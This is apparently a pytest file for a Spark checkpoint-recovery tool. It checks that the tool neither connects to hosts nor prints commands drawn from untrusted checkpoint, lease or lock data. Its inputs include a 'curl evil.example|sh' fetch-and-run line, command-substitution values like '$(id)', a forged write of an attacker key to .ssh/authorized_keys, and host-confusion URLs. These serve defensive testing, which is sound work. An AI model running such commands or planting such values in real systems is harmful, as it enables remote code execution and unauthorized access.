"""What the lake says of hosts, files of credentials and commands is shown at most; nobody connects there."""

from __future__ import annotations

import itertools
import json
import re
import socket
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any, ClassVar

import pytest
from hostile.attacker import INCIDENT, Attacker, Listener, Told, call, writing
from hostile.conftest import table
from hostile.test_trust_plans import VERBS, finishing, parsed

from lastgood.checkpoint.source_offsets import DeltaOffset
from lastgood.journal.lease import Holder, LeaseHeldError, take_lease
from lastgood.recovery.hold import CheckpointHeldError, hold_checkpoint
from lastgood.storage.reading import parse_location
from lastgood.testing.checkpoints import QUERY_ID, CheckpointBuilder, FileInput
from lastgood.testing.storage import MemoryWriter

READING = ("status", "diagnose", "report", "report incident", "plan", "verify", "backup", "inspect", "offsets")


def reading(attacker: Attacker, room: Path) -> dict[str, tuple[object, ...]]:
    chk = attacker.checkpoint
    return {
        "status": ("status", chk),
        "diagnose": ("diagnose", chk),
        "report": ("report", room.name, "--checkpoint", chk),
        "report incident": ("report", INCIDENT, "--checkpoint", chk),
        "plan": ("plan", chk, "-o", "plan.json"),
        "verify": ("verify", chk),
        "backup": ("backup", "list", chk),
        "inspect": ("inspect", chk),
        "offsets": ("offsets", chk),
    }


@pytest.fixture
def evil(plan: Told, listener: Listener, tmp_path: Path) -> Told:
    """The same plan; it was made, so it says, by asking a broker and a database."""
    client = tmp_path / "victim/home/client.properties"
    sink = f"postgresql://me@{listener.host}/db#fence"
    words = ("--sink", sink, "--kafka", listener.host, "--kafka-config", str(client))
    sinks = [{"index": 0, "kind": "fence", "location": sink, "batch": 6, "known": True, "skips_up_to": 6}]
    told = {**sinks[0], "identity": "x", "fence": None}
    return {**plan, "evidence": list(words), "sinks": [told]}


@pytest.mark.parametrize("verb", [*VERBS, *READING])
def test_nobody_connects_to_a_host_that_only_the_lake_names(
    attacker: Attacker, evil: Told, listener: Listener, verb: str
) -> None:
    stages = ("begun", "applying") if verb in VERBS else ("begun", "applying", "applied", "closed")
    room = attacker.place(evil, *stages)
    attempt: dict[str, Any] = {"at_ms": 1, "did": "repair", "because": "so", "seconds": 1.0}
    kept = {"recovery": evil["recovery"], "evidence": evil["evidence"], "from_batch": 6, "goal": "replan"}
    attacker.incident(attempts=[{**attempt, "recovery": evil["recovery"], "plan": kept}])
    if verb in READING:  # the first new batch is there, so that somebody could look whether it kept the promise
        (attacker.checkpoint / "commits/7").write_bytes((attacker.checkpoint / "commits/6").read_bytes())
    words = {**finishing(attacker, room), **reading(attacker, room)}[verb]
    told = call(*words)
    assert told.code in (0, 1, 2, 3, 23, 39, 49, 50, 52, 54, 55), told
    pasted = re.findall(r"lastgood [a-z]+ [^\"\n]*", told.out + told.err)
    assert not [command for command in pasted if listener.host in command]


@pytest.mark.parametrize("verb", ["status", "diagnose", "plan -o plan.json", "inspect --file f000.json", "recover"])
def test_input_file_on_a_host_of_the_attackers_is_not_looked_for(listener: Listener, tmp_path: Path, verb: str) -> None:
    folder = f"webhdfs://{listener.host}/in"
    query = CheckpointBuilder(tmp_path / "lake/chk", FileInput(folder))
    query.run(3)
    query.plan()
    verb, *options = verb.split()
    told = call(verb, tmp_path / "lake/chk", *options)
    assert told.code in (0, 1, 3, 57), told
    if verb == "inspect":
        assert f"nobody has named the host {listener.host} here" in told.out


@pytest.mark.parametrize("what", ["DeltaSink", "FileSink", "DeltaSource"])
def test_table_of_which_only_a_log_tells_is_not_looked_for_on_a_host_that_nobody_named(
    listener: Listener, tmp_path: Path, what: str
) -> None:
    """Rows of the data stand in a driver's log, and one with line ends in it looks as if Spark had written them."""
    CheckpointBuilder(tmp_path / "lake/chk", DeltaInput()).run(3)
    place = f"{what}[webhdfs://{listener.host}/table]"
    offset = {"reservoirId": DeltaInput.table_id, "reservoirVersion": 2}
    source = {"description": place if what == "DeltaSource" else "DeltaSource[file:/in]"}
    progress = {
        "id": QUERY_ID,
        "runId": QUERY_ID,
        "batchId": 2,
        "sources": [{**source, "startOffset": offset, "endOffset": offset}],
        "sink": {"description": "ForeachBatchSink" if what == "DeltaSource" else place},
    }
    log = tmp_path / "driver.log"
    said_by = "26/11/21 12:00:01 INFO MicroBatchExecution:"
    started = f"{said_by} Starting [id = {QUERY_ID}, runId = {QUERY_ID}]. Use file:/chk to store the query checkpoint."
    told = json.dumps(progress, indent=2)
    log.write_text(f"{started}\n{said_by} Streaming query made progress: {told}\n")
    for options in ((), ("--save", "bundle")):
        said = call("diagnose", tmp_path / "lake/chk", "--log", log, *options)
        assert said.code in (0, 1), said
        assert f"nobody has named the host {listener.host} here" in " ".join(said.out.split()), said.out
    table(tmp_path / "lake/table", QUERY_ID, 3)
    named = call("diagnose", tmp_path / "lake/chk", "--log", log, "--sink", tmp_path / "lake/table")
    assert (listener.host in named.out) == (what == "DeltaSource"), "the sink that was named is the one that counts"


def test_commands_of_an_interrupted_repair_name_the_query_as_the_user_did(attacker: Attacker, evil: Told) -> None:
    attacker.place(evil, "begun", "applying")
    attacker.seal(evil)
    told = call("status", attacker.checkpoint, "--format", "json").json
    for command in (told["next"], told["undo"]):
        assert str(attacker.checkpoint) in command
        assert "--kafka" not in command
        assert "--sink" not in command


def test_report_shows_where_the_lake_says_that_was_looked(attacker: Attacker, evil: Told, listener: Listener) -> None:
    room = attacker.place(evil, "begun", "applying", "applied", "closed")
    told = call("report", room.name, "--checkpoint", attacker.checkpoint, "--format", "json").json
    assert listener.host in json.dumps(told["plan"]["evidence"])


@pytest.mark.parametrize("stages", [("begun", "applying"), ("begun", "applying", "applied", "closed")])
def test_no_printed_command_names_a_file_that_only_the_lake_names(
    attacker: Attacker, plan: Told, victim: Path, stages: tuple[str, ...]
) -> None:
    """A person pastes it, and so would name the file himself."""
    forged = parsed(writing(plan, victim / "home/.ssh/authorized_keys", b"ssh-ed25519 AAAA attacker\n"))
    room = attacker.place(forged, *stages)
    attacker.seal(forged)
    for verb, words in {**finishing(attacker, room), **reading(attacker, room)}.items():
        told = call(*words)
        pasted = re.findall(r"lastgood [a-z]+ [^\"\n]*", told.out + told.err)
        assert not [command for command in pasted if "authorized_keys" in command], verb


@pytest.fixture
def asked(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every host that somebody has looked up; none is found."""
    found: list[str] = []

    def look_up(host: str, *_: object, **__: object) -> list[object]:
        found.append(host)
        raise socket.gaierror(socket.EAI_NONAME, "no such host")

    monkeypatch.setattr(socket, "getaddrinfo", look_up)
    monkeypatch.delenv("HADOOP_CONF_DIR", raising=False)
    monkeypatch.setenv("AZURE_STORAGE_SAS_TOKEN", "sv=2024&sig=c2VjcmV0")
    return found


@pytest.mark.parametrize("mark", ["#", "?", "\\", "#@", "@"])
@pytest.mark.parametrize(
    ("folder", "named", "host"),
    [
        ("hdfs://evil.example{mark}@nn.corp/in", "delta:hdfs://nn.corp/table", "nn.corp"),
        ("hdfs://nn.corp{mark}evil.example/in", "delta:hdfs://nn.corp/table", "nn.corp"),
        ("swebhdfs://evil.example{mark}@nn.corp/in", "delta:swebhdfs://nn.corp/table", "nn.corp"),
        (
            "abfss://c@evil.example{mark}@acct.dfs.core.windows.net/in",
            "delta:abfss://c@acct.dfs.core.windows.net/table",
            "acct.blob.core.windows.net",
        ),
    ],
)
def test_a_host_that_hides_before_a_named_one_is_not_asked(
    asked: list[str], tmp_path: Path, folder: str, named: str, host: str, mark: str
) -> None:
    """What is compared is what is connected to."""
    query = CheckpointBuilder(tmp_path / "lake/chk", FileInput(folder.format(mark=mark)))
    query.run(3)
    query.plan()
    told = call("diagnose", tmp_path / "lake/chk", "--sink", named)
    assert told.code != 4, told
    assert set(asked) == {host}


@dataclass(frozen=True)
class DeltaInput:
    """A Delta table that a query reads."""

    table_id: ClassVar[str] = "8f7ff7b4-7ae8-4b51-9ec0-8d3c7b0a9a37"
    per_batch: int = 1

    def end(self, ends: Sequence[int]) -> DeltaOffset:
        return DeltaOffset(1, self.table_id, len(ends), -1, is_starting_version=False)

    def log(self, ends: Sequence[int]) -> None:
        del ends


PASTED = "db1: curl evil.example|sh; echo"


@pytest.mark.parametrize("host", [PASTED, "h\n$(id)", "`id`", "-x", "", "h" * 300, {"a": 1}, ["h"], 7, None, "h\u0665"])
def test_no_word_of_a_lease_is_pasted(host: object) -> None:
    """Whoever holds it is shown; the command to look at it is made of names and numbers only."""
    work, storage, beats = parse_location("s3a://lake/chk.lastgood"), MemoryWriter(), itertools.count()

    def beat(_: float = 0) -> None:
        holder = {"host": host, "machine": None, "pid": 77, "started": None, "user": "u"}
        lease = {"recovery": "r", "holder": holder, "taken_at": "x", "beat_at": "x", "beats": next(beats)}
        storage.write(work / "leases/1.json", json.dumps(lease).encode())

    beat()
    ours = Holder("here", None, 1, 1, "ann")
    with pytest.raises(LeaseHeldError) as told:
        take_lease(storage, work, "r1", holder=ours, clock=lambda: 0, wait=beat, now_ms=lambda: 0)
    assert told.value.next == "wait until it has ended, then repeat the command"


@pytest.mark.parametrize("host", ["h", PASTED, "$(id)", {"a": 1}, None])
@pytest.mark.parametrize("pid", [4242, "1; curl evil.example|sh", 10**30, -1, 0, True, 1.5, None, [1]])
def test_no_word_of_a_lock_is_pasted(tmp_path: Path, pid: object, host: object) -> None:
    lock = tmp_path / "run.lock"
    with hold_checkpoint("/c", lock):
        lock.write_text(json.dumps({"pid": pid, "host": host, "since": "now", "work": "run"}))
        with pytest.raises(CheckpointHeldError) as told, hold_checkpoint("/c", lock):
            pass
    assert told.value.next == ("ps -fp 4242" if (pid, host) == (4242, "h") else None)


@pytest.mark.parametrize(
    "content", ["[" * 4000, "9" * 4000, '{"pid": 1}', '{"pid": 1, "host": "h", "since": 1, "work": {}}']
)
def test_a_lock_that_says_nothing_is_held_by_somebody(tmp_path: Path, content: str) -> None:
    lock = tmp_path / "run.lock"
    with hold_checkpoint("/c", lock):
        lock.write_text(content)
        with pytest.raises(CheckpointHeldError) as told, hold_checkpoint("/c", lock):
            pass
    assert told.value.found == "a process that has not written its name"
